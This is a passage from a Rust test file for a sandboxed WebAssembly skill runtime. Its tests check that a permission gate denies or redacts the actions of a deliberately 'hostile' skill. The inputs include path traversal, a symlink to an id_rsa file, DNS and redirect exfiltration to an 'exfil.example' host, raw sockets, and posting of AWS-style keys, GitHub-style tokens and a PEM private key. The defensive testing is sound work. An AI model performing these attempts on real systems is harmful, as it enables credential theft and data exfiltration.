//! The runtime with the example skills (`examples/skills`, built for `wasm32-wasip2` by
//! `cargo xtask skills`) and a gate that allows only what each test says.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "tests fail by panicking"
)]

use std::collections::HashMap;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

use cordon_skills::{
    Decision, Gate, Limits, Preopen, Run, Runtime, RuntimeOptions, Sink, SkillFile, Stopped,
};
use serde_json::Value;

fn skill_path(name: &str) -> PathBuf {
    let dir = std::env::var_os("CORDON_SKILLS_DIR").map_or_else(
        || Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/wasm32-wasip2/release"),
        PathBuf::from,
    );
    let path = dir.join(format!("{name}.wasm"));
    assert!(
        path.exists(),
        "{} is missing: build the example skills first (`cargo xtask skills`)",
        path.display()
    );
    path
}

type Rule = Box<dyn Fn(&str, &str, &Value) -> bool + Send + Sync>;

/// Allows what `rule` allows and keeps every call it was asked.
struct TestGate {
    rule: Rule,
    asked: Mutex<Vec<(String, String, Value, bool)>>,
    /// Obligations every allowance carries.
    obligations: Vec<cordon_types::Obligation>,
    /// What the runtime refused after an allowance, and why.
    cuts: Mutex<Vec<(Value, String)>>,
}

impl TestGate {
    fn new(rule: impl Fn(&str, &str, &Value) -> bool + Send + Sync + 'static) -> Arc<Self> {
        Arc::new(Self {
            rule: Box::new(rule),
            asked: Mutex::new(Vec::new()),
            obligations: Vec::new(),
            cuts: Mutex::new(Vec::new()),
        })
    }

    /// As [`TestGate::new`], every allowance carrying `obligations`.
    fn with_obligations(
        rule: impl Fn(&str, &str, &Value) -> bool + Send + Sync + 'static,
        obligations: Vec<cordon_types::Obligation>,
    ) -> Arc<Self> {
        Arc::new(Self {
            rule: Box::new(rule),
            asked: Mutex::new(Vec::new()),
            obligations,
            cuts: Mutex::new(Vec::new()),
        })
    }

    fn asked(&self) -> Vec<(String, String, Value, bool)> {
        self.asked.lock().unwrap().clone()
    }

    fn denied(&self) -> Vec<(String, Value)> {
        self.asked()
            .into_iter()
            .filter(|(_, _, _, allowed)| !allowed)
            .map(|(_, action, resource, _)| (action, resource))
            .collect()
    }
}

impl Gate for TestGate {
    fn decide(&self, capability: &str, action: &str, resource: Value) -> Decision {
        let allow = (self.rule)(capability, action, &resource);
        self.asked
            .lock()
            .unwrap()
            .push((capability.into(), action.into(), resource, allow));
        Decision {
            allow,
            reasons: vec![if allow { "test allows" } else { "test denies" }.into()],
            obligations: if allow {
                self.obligations.clone()
            } else {
                Vec::new()
            },
            grants: None,
        }
    }

    fn cut(&self, _: &str, _: &str, resource: Value, _: &Decision, reason: &str) {
        self.cuts
            .lock()
            .unwrap()
            .push((resource, reason.to_owned()));
    }
}

/// Paths inside `root` may be read; nothing else is allowed.
fn reads_inside(root: &Path) -> Arc<TestGate> {
    let root = root.to_path_buf();
    TestGate::new(move |capability, action, resource| {
        capability == "file"
            && matches!(action, "read" | "list" | "stat")
            && Path::new(resource["path"].as_str().unwrap_or("")).starts_with(&root)
    })
}

struct Ran {
    code: i32,
    stopped: Option<Stopped>,
    stdout: String,
    stderr: String,
}

/// One runtime for the tests, each skill compiled once.
fn prepared(name: &str) -> (&'static Runtime, Arc<cordon_skills::Prepared>) {
    static RUNTIME: OnceLock<Runtime> = OnceLock::new();
    static PREPARED: OnceLock<Mutex<HashMap<String, Arc<cordon_skills::Prepared>>>> =
        OnceLock::new();
    let runtime = RUNTIME.get_or_init(|| Runtime::new(&RuntimeOptions::default()).unwrap());
    let mut prepared = PREPARED.get_or_init(Default::default).lock().unwrap();
    let skill = prepared
        .entry(name.to_owned())
        .or_insert_with(|| {
            Arc::new(
                runtime
                    .prepare(SkillFile::read(&skill_path(name)).unwrap())
                    .unwrap(),
            )
        })
        .clone();
    (runtime, skill)
}

fn run(
    name: &str,
    args: &[&str],
    preopens: Vec<Preopen>,
    gate: Arc<TestGate>,
    limits: Limits,
) -> Ran {
    let (runtime, prepared) = prepared(name);
    let stdout = Arc::new(Mutex::new(Vec::new()));
    let stderr = Arc::new(Mutex::new(Vec::new()));
    let mut argv = vec![name.to_owned()];
    argv.extend(args.iter().map(|a| (*a).to_owned()));
    let exit = runtime
        .run(
            &prepared,
            Run {
                args: argv,
                env: Vec::new(),
                preopens,
                gate,
                limits,
                stdin: false,
                stdout: Sink::Memory(stdout.clone()),
                stderr: Sink::Memory(stderr.clone()),
                stop: Default::default(),
            },
        )
        .unwrap();
    let text = |b: &Arc<Mutex<Vec<u8>>>| String::from_utf8_lossy(&b.lock().unwrap()).into_owned();
    Ran {
        code: exit.code,
        stopped: exit.stopped,
        stdout: text(&stdout),
        stderr: text(&stderr),
    }
}

/// A directory holding `notes/a.md` and `notes/b.txt`, canonical, and its preopen `/data`.
fn workspace() -> (tempfile::TempDir, PathBuf, Vec<Preopen>) {
    let dir = tempfile::tempdir().unwrap();
    let root = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::create_dir(root.join("notes")).unwrap();
    fs_err::write(root.join("notes/a.md"), "# Plan\n\nship the runner\n").unwrap();
    fs_err::write(root.join("notes/b.txt"), "one two three\n").unwrap();
    let preopen = Preopen {
        host: root.clone(),
        guest: "/data".into(),
        writable: false,
    };
    (dir, root, vec![preopen])
}

#[test]
fn a_skill_reads_the_files_of_its_grant_and_each_open_is_decided() {
    let (_dir, root, preopens) = workspace();
    let gate = reads_inside(&root);
    let ran = run(
        "summarise",
        &["/data/notes"],
        preopens,
        gate.clone(),
        Limits::default(),
    );
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert!(
        ran.stdout
            .contains("/data/notes/a.md: 3 lines, 5 words: # Plan"),
        "{}",
        ran.stdout
    );
    assert!(
        ran.stdout.contains("/data/notes/b.txt: 1 lines, 3 words"),
        "{}",
        ran.stdout
    );
    let opened: Vec<String> = gate
        .asked()
        .iter()
        .filter(|(_, action, _, _)| action == "read")
        .map(|(_, _, r, _)| r["path"].as_str().unwrap().to_owned())
        .collect();
    let a = root.join("notes/a.md").display().to_string();
    assert!(opened.contains(&a), "{opened:?}");
    let (_, _, resource, _) = gate
        .asked()
        .into_iter()
        .find(|(_, action, r, _)| action == "read" && r["path"] == a)
        .unwrap();
    assert_eq!(resource["size"], 24);
    assert_eq!(resource["mode"]["read"], true);
    assert_eq!(resource["mode"]["write"], false);
}

#[test]
fn a_file_the_gate_denies_is_not_read() {
    let (_dir, root, preopens) = workspace();
    let denied = root.join("notes/b.txt");
    let inner = reads_inside(&root);
    let gate = TestGate::new(move |c, a, r| {
        r["path"] != denied.display().to_string() && (inner.rule)(c, a, r)
    });
    let ran = run(
        "hostile",
        &["read", "/data/notes/b.txt"],
        preopens,
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: read"), "{}", ran.stdout);
    assert_eq!(
        gate.denied()[0].1["path"],
        root.join("notes/b.txt").display().to_string()
    );
}

#[test]
fn path_traversal_out_of_the_grant_is_decided_on_the_real_path_and_denied() {
    let (_dir, root, preopens) = workspace();
    // The target exists and this process can read it: only the runtime stands between.
    let target = root
        .parent()
        .unwrap()
        .join(format!("cordon-skill-target-{}", std::process::id()));
    fs_err::write(&target, "outside the grant").unwrap();
    let name = target.file_name().unwrap().to_str().unwrap();
    let gate = reads_inside(&root);
    let ran = run(
        "hostile",
        &["read", &format!("/data/notes/../../{name}")],
        preopens,
        gate.clone(),
        Limits::default(),
    );
    std::fs::remove_file(&target).unwrap();
    assert!(ran.stdout.starts_with("denied: read"), "{}", ran.stdout);
    assert_eq!(gate.denied()[0].1["path"], target.display().to_string());
}

#[test]
fn an_absolute_path_through_the_raw_interface_is_decided_and_denied() {
    let (_dir, root, preopens) = workspace();
    let gate = reads_inside(&root);
    let ran = run(
        "hostile",
        &["open-at", "/etc/hostname"],
        preopens,
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: open-at"), "{}", ran.stdout);
    assert_eq!(gate.denied()[0].1["path"], "/etc/hostname");
}

#[test]
fn a_link_planted_in_the_grant_pointing_out_is_decided_on_its_target_and_denied() {
    let (_dir, root, preopens) = workspace();
    let outside = tempfile::tempdir().unwrap();
    let secret = std::fs::canonicalize(outside.path())
        .unwrap()
        .join("id_rsa");
    fs_err::write(&secret, "PRIVATE KEY").unwrap();
    std::os::unix::fs::symlink(&secret, root.join("notes/innocent.md")).unwrap();
    // Followed by anyone but the skill, the link reaches the secret.
    assert_eq!(
        fs_err::read_to_string(root.join("notes/innocent.md")).unwrap(),
        "PRIVATE KEY"
    );
    let gate = reads_inside(&root);
    let ran = run(
        "hostile",
        &["read", "/data/notes/innocent.md"],
        preopens,
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: read"), "{}", ran.stdout);
    assert_eq!(gate.denied()[0].1["path"], secret.display().to_string());
}

#[test]
fn writes_are_decided_and_a_read_only_grant_holds_even_if_the_gate_allowed() {
    let (_dir, root, mut preopens) = workspace();
    let gate = reads_inside(&root);
    let ran = run(
        "hostile",
        &["write", "/data/planted.sh"],
        preopens.clone(),
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: write"), "{}", ran.stdout);
    assert_eq!(gate.denied()[0].0, "create");
    assert!(!root.join("planted.sh").exists());

    // Allowed by the gate, but the grant is read-only.
    let ran = run(
        "hostile",
        &["write", "/data/planted.sh"],
        preopens.clone(),
        TestGate::new(|_, _, _| true),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: write"), "{}", ran.stdout);
    assert!(!root.join("planted.sh").exists());

    // Writable and allowed: written.
    preopens[0].writable = true;
    let ran = run(
        "hostile",
        &["write", "/data/planted.sh"],
        preopens,
        TestGate::new(|_, _, _| true),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("LEAKED: write"), "{}", ran.stdout);
    assert!(root.join("planted.sh").exists());
}

#[test]
fn limits_stop_a_skill_and_say_which() {
    // Each case has one tight limit; the others are generous, so that a slow machine does
    // not reach another first.
    let generous = Limits {
        memory_bytes: 1 << 30,
        cpu: Duration::from_secs(60),
        output_bytes: 1 << 30,
        wall: Duration::from_secs(120),
    };
    let ran = run(
        "hostile",
        &["memory"],
        Vec::new(),
        TestGate::new(|_, _, _| false),
        Limits {
            memory_bytes: 64 << 20,
            ..generous
        },
    );
    assert_eq!(
        ran.stopped,
        Some(Stopped::Memory { limit: 64 << 20 }),
        "{}",
        ran.stderr
    );
    assert_ne!(ran.code, 0);

    let ran = run(
        "hostile",
        &["cpu"],
        Vec::new(),
        TestGate::new(|_, _, _| false),
        Limits {
            cpu: Duration::from_millis(300),
            ..generous
        },
    );
    assert_eq!(
        ran.stopped,
        Some(Stopped::Cpu {
            limit: Duration::from_millis(300)
        })
    );
    assert_ne!(ran.code, 0);

    let ran = run(
        "hostile",
        &["flood"],
        Vec::new(),
        TestGate::new(|_, _, _| false),
        Limits {
            output_bytes: 1 << 20,
            ..generous
        },
    );
    assert_eq!(ran.stopped, Some(Stopped::Output { limit: 1 << 20 }));
    assert!(ran.stdout.len() <= 1 << 20, "{}", ran.stdout.len());
    assert_ne!(ran.code, 0);
}

/// Serves HTTP on 127.0.0.1: `/redirect?to=URL` answers 302 to URL, anything else 200 with
/// `hello from PATH`. Returns the port.
fn serve() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            stream.set_read_timeout(Some(Duration::from_secs(5))).ok();
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut line = String::new();
            if reader.read_line(&mut line).is_err() {
                continue;
            }
            let path = line.split_whitespace().nth(1).unwrap_or("/").to_owned();
            let mut length = 0;
            loop {
                let mut header = String::new();
                if reader.read_line(&mut header).unwrap_or(0) <= 2 {
                    break;
                }
                if let Some(v) = header.to_ascii_lowercase().strip_prefix("content-length:") {
                    length = v.trim().parse().unwrap_or(0);
                }
            }
            let mut body = vec![0; length];
            let _ = std::io::Read::read_exact(&mut reader, &mut body);
            let mut stream = stream;
            let response = match path.strip_prefix("/redirect?to=") {
                Some(to) => format!("HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
                None if length > 0 => {
                    let body = format!("hello from {path} got {}", String::from_utf8_lossy(&body));
                    format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len())
                }
                None => {
                    let body = format!("hello from {path}");
                    format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len())
                }
            };
            let _ = stream.write_all(response.as_bytes());
        }
    });
    port
}

/// Allows HTTP to 127.0.0.1:`port` only.
fn http_to(port: u16) -> Arc<TestGate> {
    TestGate::new(move |capability, action, resource| {
        capability == "net"
            && action == "http"
            && resource["host"] == "127.0.0.1"
            && resource["port"] == port
    })
}

#[test]
fn outgoing_http_is_decided_with_method_url_and_body_size() {
    let port = serve();
    let gate = http_to(port);
    let ran = run(
        "fetch",
        &[&format!("http://127.0.0.1:{port}/page")],
        Vec::new(),
        gate.clone(),
        Limits::default(),
    );
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert!(ran.stdout.contains("hello from /page"), "{}", ran.stdout);
    let (_, action, resource, allowed) = gate.asked().remove(0);
    assert!(allowed);
    assert_eq!(action, "http");
    assert_eq!(resource["http"]["method"], "GET");
    assert_eq!(
        resource["http"]["url"],
        format!("http://127.0.0.1:{port}/page")
    );
    assert_eq!(resource["http"]["body_bytes"], 0);
    assert_eq!(resource["addresses"][0]["ip"], "127.0.0.1");
}

#[test]
fn a_host_not_allowed_and_a_redirect_to_one_are_denied() {
    let port = serve();
    let other = serve();
    // Another port of the same machine: not allowed.
    let gate = http_to(port);
    let ran = run(
        "hostile",
        &["get", &format!("http://127.0.0.1:{other}/x")],
        Vec::new(),
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: get"), "{}", ran.stdout);
    assert_eq!(gate.denied()[0].1["port"], other);

    // The allowed host redirects to the other: the first hop goes, the second is decided
    // again and denied.
    let gate = http_to(port);
    let hop = format!("http://127.0.0.1:{port}/redirect?to=http://127.0.0.1:{other}/exfil");
    let ran = run(
        "fetch",
        &[&hop],
        Vec::new(),
        gate.clone(),
        Limits::default(),
    );
    assert_ne!(ran.code, 0);
    assert!(ran.stdout.contains("302"), "{}", ran.stdout);
    assert!(ran.stderr.contains("HttpRequestDenied"), "{}", ran.stderr);
    let asked = gate.asked();
    assert_eq!(asked.len(), 2, "{asked:?}");
    assert!(asked[0].3 && !asked[1].3);
    assert_eq!(asked[1].2["http"]["path"], "/exfil");
}

#[test]
fn a_name_is_decided_before_it_is_looked_up() {
    let gate = TestGate::new(|_, _, _| false);
    let ran = run(
        "hostile",
        &["lookup", "c2VjcmV0.exfil.example"],
        Vec::new(),
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: lookup"), "{}", ran.stdout);
    assert_eq!(
        gate.denied(),
        vec![(
            "lookup".to_owned(),
            serde_json::json!({"host": "c2vjcmv0.exfil.example"})
        )]
    );

    let gate = TestGate::new(|_, _, _| false);
    let ran = run(
        "hostile",
        &["get", "http://c2VjcmV0.exfil.example/"],
        Vec::new(),
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: get"), "{}", ran.stdout);
    assert_eq!(gate.denied()[0].0, "resolve");
}

#[test]
fn a_raw_connection_is_decided_on_its_address() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let target = format!("127.0.0.1:{port}");
    let gate = TestGate::new(|_, _, _| false);
    let ran = run(
        "hostile",
        &["connect", &target],
        Vec::new(),
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: connect"), "{}", ran.stdout);
    assert_eq!(gate.denied()[0].0, "socket");
    assert_eq!(gate.denied()[0].1["port"], port);

    let ran = run(
        "hostile",
        &["connect", &target],
        Vec::new(),
        TestGate::new(|_, _, _| true),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("LEAKED: connect"), "{}", ran.stdout);
}

#[test]
fn bad_skills_get_clear_errors() {
    let dir = tempfile::tempdir().unwrap();
    let text = dir.path().join("notes.wasm");
    fs_err::write(&text, "not wasm").unwrap();
    let err = SkillFile::read(&text).unwrap_err().to_string();
    assert!(err.contains("is not a WebAssembly file"), "{err}");

    let module = dir.path().join("module.wasm");
    fs_err::write(&module, b"\0asm\x01\0\0\0").unwrap();
    let err = SkillFile::read(&module).unwrap_err().to_string();
    assert!(
        err.contains("core WebAssembly module, not a component"),
        "{err}"
    );

    let err = SkillFile::read(&dir.path().join("missing.wasm"))
        .unwrap_err()
        .to_string();
    assert!(err.contains("cannot read skill"), "{err}");
}

#[test]
fn a_compiled_skill_is_cached_and_a_damaged_entry_is_recompiled() {
    use cordon_skills::CacheUse;
    let cache = tempfile::tempdir().unwrap();
    let options = RuntimeOptions {
        cache_dir: Some(cache.path().join("skills")),
        ..RuntimeOptions::default()
    };
    let runtime = Runtime::new(&options).unwrap();
    let skill = SkillFile::read(&skill_path("summarise")).unwrap();
    assert_eq!(
        runtime.prepare(skill.clone()).unwrap().cache(),
        &CacheUse::Stored
    );
    assert_eq!(
        runtime.prepare(skill.clone()).unwrap().cache(),
        &CacheUse::Hit
    );
    let entry = fs_err::read_dir(cache.path().join("skills"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    assert!(entry
        .file_name()
        .unwrap()
        .to_str()
        .unwrap()
        .starts_with(skill.sha256()));
    // One byte of code flipped: refused, recompiled, rewritten.
    let mut bytes = fs_err::read(&entry).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x40;
    fs_err::write(&entry, &bytes).unwrap();
    match runtime.prepare(skill.clone()).unwrap().cache() {
        CacheUse::Recompiled(why) => assert!(why.contains("checksum"), "{why}"),
        other => panic!("{other:?}"),
    }
    assert_eq!(runtime.prepare(skill).unwrap().cache(), &CacheUse::Hit);
}

#[test]
fn an_open_with_create_of_an_existing_file_is_decided_as_a_write() {
    let (_dir, root, mut preopens) = workspace();
    preopens[0].writable = true;
    // Without cordon's decision the open could write: the grant is writable.
    let gate = reads_inside(&root);
    let ran = run(
        "hostile",
        &["create-rw", "/data/notes/a.md"],
        preopens,
        gate.clone(),
        Limits::default(),
    );
    assert!(
        ran.stdout.starts_with("denied: create-rw"),
        "{}",
        ran.stdout
    );
    assert_eq!(
        fs_err::read_to_string(root.join("notes/a.md")).unwrap(),
        "# Plan\n\nship the runner\n"
    );
    let (action, resource) = gate.denied().remove(0);
    assert_eq!(action, "write");
    assert_eq!(resource["mode"]["create"], true);
}

#[test]
fn changing_a_files_times_through_a_read_descriptor_is_decided() {
    let (_dir, root, mut preopens) = workspace();
    preopens[0].writable = true;
    let before = fs_err::metadata(root.join("notes/b.txt"))
        .unwrap()
        .modified()
        .unwrap();
    let gate = reads_inside(&root);
    let ran = run(
        "hostile",
        &["settimes", "/data/notes/b.txt"],
        preopens,
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: settimes"), "{}", ran.stdout);
    let after = fs_err::metadata(root.join("notes/b.txt"))
        .unwrap()
        .modified()
        .unwrap();
    assert_eq!(before, after);
    assert_eq!(gate.denied()[0].0, "write");
}

#[test]
fn a_files_metadata_is_decided() {
    let (_dir, root, preopens) = workspace();
    let hidden = root.join("notes/b.txt");
    let inner = reads_inside(&root);
    let gate = TestGate::new(move |c, a, r| {
        r["path"] != hidden.display().to_string() && (a == "stat" || (inner.rule)(c, a, r))
    });
    let ran = run(
        "hostile",
        &["stat", "/data/notes/b.txt"],
        preopens.clone(),
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: stat"), "{}", ran.stdout);
    assert_eq!(gate.denied()[0].0, "stat");
    let ran = run(
        "hostile",
        &["stat", "/data/notes/a.md"],
        preopens,
        gate,
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("LEAKED: stat"), "{}", ran.stdout);
}

#[test]
fn a_skill_waiting_in_a_host_call_is_ended_by_a_stop_or_its_time_limit() {
    let limits = Limits {
        wall: Duration::from_millis(500),
        ..Limits::default()
    };
    let started = std::time::Instant::now();
    let ran = run(
        "hostile",
        &["sleep", "120"],
        Vec::new(),
        TestGate::new(|_, _, _| false),
        limits,
    );
    assert_eq!(
        ran.stopped,
        Some(Stopped::Wall {
            limit: Duration::from_millis(500)
        })
    );
    assert_ne!(ran.code, 0);
    assert!(started.elapsed() < Duration::from_secs(30));

    // A stop asked from another thread while the skill sleeps: the library's caller gets
    // its run back (no process is ended).
    let (runtime, prepared) = prepared("hostile");
    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let stopper = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(300));
            stop.store(true, std::sync::atomic::Ordering::SeqCst);
        })
    };
    let exit = runtime
        .run(
            &prepared,
            Run {
                args: vec!["hostile".into(), "sleep".into(), "120".into()],
                env: Vec::new(),
                preopens: Vec::new(),
                gate: TestGate::new(|_, _, _| false),
                limits: Limits::default(),
                stdin: false,
                stdout: Sink::Memory(Default::default()),
                stderr: Sink::Memory(Default::default()),
                stop,
            },
        )
        .unwrap();
    stopper.join().unwrap();
    assert_eq!(exit.stopped, Some(Stopped::Requested));
}

#[test]
fn components_nested_without_end_are_refused_before_compiling() {
    // 200 empty components, each inside the last: a few hundred bytes.
    let mut inner: Vec<u8> = b"\0asm\x0d\0\x01\0".to_vec();
    for _ in 0..200 {
        let mut outer = b"\0asm\x0d\0\x01\0".to_vec();
        outer.push(4);
        let mut len = inner.len();
        loop {
            let byte = (len & 0x7f) as u8;
            len >>= 7;
            if len == 0 {
                outer.push(byte);
                break;
            }
            outer.push(byte | 0x80);
        }
        outer.extend_from_slice(&inner);
        inner = outer;
    }
    let skill = SkillFile::from_bytes(Path::new("nested.wasm"), "nested".into(), inner).unwrap();
    let runtime = Runtime::new(&RuntimeOptions::default()).unwrap();
    let err = runtime.prepare(skill).unwrap_err().to_string();
    assert!(err.contains("nest deeper than"), "{err}");
}

#[test]
fn a_declaration_with_control_characters_is_refused() {
    let mut bytes = fs_err::read(skill_path("hello")).unwrap();
    let name = b"cordon-capabilities";
    let data = br#"{"net": ["evil.example\r\u001b[2K"]}"#;
    let mut payload = vec![name.len() as u8];
    payload.extend_from_slice(name);
    payload.extend_from_slice(data);
    bytes.push(0);
    bytes.push(payload.len() as u8);
    bytes.extend_from_slice(&payload);
    let skill = SkillFile::from_bytes(Path::new("c.wasm"), "c".into(), bytes).unwrap();
    let err = cordon_skills::identity::inspect(&skill)
        .unwrap_err()
        .to_string();
    assert!(err.contains("control characters"), "{err}");
}

#[test]
fn a_redact_obligation_takes_secrets_out_of_url_and_body_and_block_if_refuses() {
    let port = serve();
    let key = ["AKIA", "QYLPMN5HHHFPZAM2"].concat();
    let token = ["ghp_", "u8jzPde0IgxLd6GncfBAepfJBd0Kh8024xXH"].concat();
    let allow_http = move |capability: &str, action: &str, resource: &Value| {
        capability == "net" && action == "http" && resource["port"] == port
    };
    let redact = |block_if: &[&str]| cordon_types::Obligation::Redact {
        patterns: Vec::new(),
        block_if: block_if.iter().map(|s| (*s).to_owned()).collect(),
    };
    let gate = TestGate::with_obligations(allow_http, vec![redact(&["private_key"])]);
    let url = format!("http://127.0.0.1:{port}/up?key={key}");
    let ran = run(
        "hostile",
        &["post", &url, &format!("token={token} and more")],
        Vec::new(),
        gate.clone(),
        Limits::default(),
    );
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert!(
        ran.stdout.contains(
            "hello from /up?key=%5BREDACTED%3Acloud_key%5D got token=[REDACTED:token] and more"
        ),
        "{}",
        ran.stdout
    );
    // What the server received (the skill's own line names its arguments).
    let received = ran.stdout.split(": 200 ").nth(1).unwrap_or_default();
    assert!(
        !received.contains(&key) && !received.contains(&token),
        "{received}"
    );

    // A body holding what the policy blocks does not leave, and the refusal is reported
    // with a URL that holds only what would have left.
    let pem = format!(
        "-----BEGIN {0}-----\n{1}\n{1}\n-----END {0}-----",
        "PRIVATE KEY",
        "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKjMzEfYyjiWA4R4"
    );
    let gate = TestGate::with_obligations(allow_http, vec![redact(&["private_key"])]);
    let ran = run(
        "hostile",
        &["post", &url, &pem],
        Vec::new(),
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: post"), "{}", ran.stdout);
    let cuts = gate.cuts.lock().unwrap().clone();
    assert_eq!(cuts.len(), 1, "{cuts:?}");
    assert!(cuts[0].1.contains("private_key"), "{}", cuts[0].1);
    assert!(!cuts[0].0.to_string().contains(&key), "{}", cuts[0].0);

    // A redact obligation the runtime cannot read is a refusal.
    let bad = cordon_types::Obligation::Redact {
        patterns: vec!["nonsense".into()],
        block_if: Vec::new(),
    };
    let gate = TestGate::with_obligations(allow_http, vec![bad]);
    let ran = run(
        "hostile",
        &["post", &url, "x"],
        Vec::new(),
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: post"), "{}", ran.stdout);
}

#[test]
fn a_redact_obligation_on_a_read_gives_the_skill_a_redacted_copy() {
    let (_dir, root, preopens) = workspace();
    let key = ["AKIA", "QYLPMN5HHHFPZAM2"].concat();
    fs_err::write(root.join("notes/creds.txt"), format!("id {key} end")).unwrap();
    let pem = format!(
        "-----BEGIN {0}-----\n{1}\n{1}\n-----END {0}-----",
        "PRIVATE KEY",
        "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKjMzEfYyjiWA4R4"
    );
    fs_err::write(root.join("notes/key.pem"), &pem).unwrap();
    let inner = reads_inside(&root);
    let redact = cordon_types::Obligation::Redact {
        patterns: Vec::new(),
        block_if: vec!["private_key".into()],
    };
    let gate = TestGate::with_obligations(move |c, a, r| (inner.rule)(c, a, r), vec![redact]);
    let ran = run(
        "hostile",
        &["read", "/data/notes/creds.txt"],
        preopens.clone(),
        gate.clone(),
        Limits::default(),
    );
    assert!(
        ran.stdout.contains("id [REDACTED:cloud_key] end"),
        "{}{}",
        ran.stdout,
        ran.stderr
    );
    assert!(!ran.stdout.contains(&key));
    // The file itself is unchanged.
    assert_eq!(
        fs_err::read_to_string(root.join("notes/creds.txt")).unwrap(),
        format!("id {key} end")
    );
    // What the policy blocks is not read at all, and the refusal is reported.
    let ran = run(
        "hostile",
        &["read", "/data/notes/key.pem"],
        preopens,
        gate.clone(),
        Limits::default(),
    );
    assert!(ran.stdout.starts_with("denied: read"), "{}", ran.stdout);
    let cuts = gate.cuts.lock().unwrap().clone();
    assert!(
        cuts.iter().any(|(_, why)| why.contains("private_key")),
        "{cuts:?}"
    );
}

/// Allows reading and writing inside `root`; a read only redacted.
struct ReadsRedacted {
    root: PathBuf,
    asked: Mutex<Vec<String>>,
}

impl Gate for ReadsRedacted {
    fn decide(&self, capability: &str, action: &str, resource: Value) -> Decision {
        self.asked.lock().unwrap().push(action.to_owned());
        let inside = Path::new(resource["path"].as_str().unwrap_or("")).starts_with(&self.root);
        let allow = capability == "file" && inside;
        Decision {
            allow,
            reasons: Vec::new(),
            obligations: if allow && action == "read" {
                vec![cordon_types::Obligation::Redact {
                    patterns: Vec::new(),
                    block_if: Vec::new(),
                }]
            } else {
                Vec::new()
            },
            grants: None,
        }
    }
}

#[test]
fn a_descriptor_that_also_reads_is_not_handed_out_when_reads_are_redacted() {
    let (_dir, root, mut preopens) = workspace();
    preopens[0].writable = true;
    let key = ["AKIA", "QYLPMN5HHHFPZAM2"].concat();
    fs_err::write(root.join("notes/creds.txt"), format!("id {key} end")).unwrap();
    let gate = Arc::new(ReadsRedacted {
        root: root.clone(),
        asked: Mutex::new(Vec::new()),
    });
    let (runtime, prepared) = prepared("hostile");
    let out = Arc::new(Mutex::new(Vec::new()));
    runtime
        .run(
            &prepared,
            Run {
                args: vec![
                    "hostile".into(),
                    "create-rw".into(),
                    "/data/notes/creds.txt".into(),
                ],
                env: Vec::new(),
                preopens,
                gate: gate.clone(),
                limits: Limits::default(),
                stdin: false,
                stdout: Sink::Memory(out.clone()),
                stderr: Sink::Memory(out.clone()),
                stop: Default::default(),
            },
        )
        .unwrap();
    let text = String::from_utf8_lossy(&out.lock().unwrap()).into_owned();
    assert!(text.starts_with("denied: create-rw"), "{text}");
    let asked = gate.asked.lock().unwrap().clone();
    assert!(
        asked.contains(&"write".to_owned()) && asked.contains(&"read".to_owned()),
        "{asked:?}"
    );
}

/// `textkit`'s functions, prepared once.
fn functions() -> &'static (Runtime, cordon_skills::Prepared) {
    static FUNCTIONS: OnceLock<(Runtime, cordon_skills::Prepared)> = OnceLock::new();
    FUNCTIONS.get_or_init(|| {
        let runtime = Runtime::new(&RuntimeOptions::default()).unwrap();
        let skill = SkillFile::read(&skill_path("textkit")).unwrap();
        let prepared = runtime.prepare_functions(skill).unwrap();
        (runtime, prepared)
    })
}

/// Calls `textkit`'s `name` with `arguments`, seeing `preopens`, under `gate` and `limits`.
fn call(
    name: &str,
    arguments: Value,
    preopens: Vec<Preopen>,
    gate: Arc<TestGate>,
    limits: Limits,
) -> Result<cordon_skills::Called, cordon_skills::Error> {
    let (runtime, prepared) = functions();
    let function = prepared
        .functions()
        .iter()
        .find(|f| f.name == name)
        .unwrap();
    runtime.call(
        prepared,
        function,
        &arguments,
        Run {
            args: Vec::new(),
            env: Vec::new(),
            preopens,
            gate,
